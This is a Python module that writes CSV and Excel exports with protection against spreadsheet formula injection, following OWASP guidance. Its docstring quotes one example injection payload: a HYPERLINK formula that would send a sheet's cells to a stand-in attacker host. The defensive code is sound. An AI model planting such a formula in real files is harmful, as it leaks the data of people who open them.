"""Files people open in a spreadsheet: CSV and Excel (.xlsx), written so that no cell runs as a formula.

Every CSV the app writes goes through write_csv (or safe_cell), as OWASP's CSV-injection guidance asks: a text
cell that starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so a spreadsheet shows it as
text instead of running it (a page title such as =HYPERLINK("http://evil.example/?"&A1) would otherwise send the
sheet's cells away). Numbers stay numbers: -3 or -0.5 cannot be a formula. In .xlsx files every text cell is
stored as text, which Excel never evaluates, so the text stays as it was.
"""

import csv
import re
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
XLSX_TEXT_LIMIT = 32_767  # characters in one Excel cell


def safe_cell(value):
    "The value as a spreadsheet should see it: text that would start a formula gets a leading apostrophe."
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(path: Path, header: list[str], rows) -> Path:
    "Writes the rows (sequences in the order of header) as a UTF-8 CSV, every cell made safe; returns the path."
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(map(safe_cell, header))
        writer.writerows(map(safe_cell, row) for row in rows)
    return path


def write_xlsx(path: Path, sheets: dict[str, tuple[list[str], object]]) -> Path:
    """Writes an Excel workbook, one sheet per entry {sheet name: (header, rows)}, in openpyxl's write-only mode
    (rows go to disk as they come, so memory stays flat at any row count); returns the path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    book = Workbook(write_only=True)
    for name, (header, rows) in sheets.items():
        sheet = book.create_sheet(name[:31])
        sheet.freeze_panes = "A2"
        sheet.append(header)
        for row in rows: sheet.append([xlsx_cell(sheet, value) for value in row])
    book.save(path)
    return path


def xlsx_cell(sheet, value):
    """Text as a text cell (openpyxl would make text starting with = a formula), without the control characters
    .xlsx cannot hold; other values as they are."""
    if not isinstance(value, str): return value
    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_TEXT_LIMIT])
    cell.data_type = "s"
    return cell
